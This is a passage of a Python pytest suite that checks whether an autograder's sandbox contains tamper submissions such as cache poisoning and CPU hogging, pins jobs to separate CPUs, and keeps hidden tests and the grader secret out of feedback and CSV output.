    """cache_poison_a/_b (above) each found a clean copy; the grader's own stays clean too."""
    if "cache_poison_a" not in run.batch.records:
        pytest.skip("cache_poison_a not selected (TAMPER_ONLY)")
    master = run.batch.course.build / "compile_cache" / DUMMY / "inductor"
    assert sorted(p.name for p in master.rglob("*") if p.is_file()) == ["entry"]
    assert (master / "entry").read_text() == "clean"


def test_each_job_of_the_batch_runs_on_cpus_of_its_own(run):
    """grade_submissions(workers=2) pins each running job to half the CPUs (whole cores), and
    the sandbox keeps it there: cpu_hog (above) found it cannot widen its set."""
    if "cpu_hog" not in run.batch.records:
        pytest.skip("cpu_hog not selected (TAMPER_ONLY)")
    found = re.search(r"kernel cpus: \[([\d, ]*)\] of (\d+)", run.batch.outputs["cpu_hog"])
    assert found, run.batch.outputs["cpu_hog"][-2000:]
    mine, host = [int(x) for x in found[1].split(",")], int(found[2])
    allowed = len(os.sched_getaffinity(0))
    assert host == os.cpu_count() and set(mine) <= os.sched_getaffinity(0), (mine, host)
    if allowed >= 2:
        assert 1 <= len(mine) <= allowed // 2, (mine, allowed)
    assert any("each on CPUs of its own" in line for line in run.batch.log) == (allowed >= 2), \
        [line for line in run.batch.log if line.startswith("executing")]
    # the honest submission graded alone (workers=2, one submission): one job, not pinned
    assert [line for line in run.alone.log if line.startswith("executing")] == \
        ["executing 1 submission(s), 1 at a time on this machine ..."], run.alone.log


# --- every feedback page ----------------------------------------------------------------------
def test_no_hidden_test_and_no_grader_secret_in_any_feedback_or_csv(run):
    """Every page but those of the attacks known to succeed (they read the hidden code and
    print it in their own feedback: their own xfail test covers that)."""
    bad = {}
    open_attacks = {a.name for a in SELECTED if a.known_open and not run.tester}
    for graded in (run.alone, run.batch):
        for student, text in graded.feedback.items():
            if student in open_attacks:
                continue
            leaks = hidden_leaks(text) + (["GRADER_SECRET"] if run.secret in text else [])
            if leaks:
                bad[student] = leaks
        assert not hidden_leaks(graded.csv_text) and run.secret not in graded.csv_text
    assert not bad
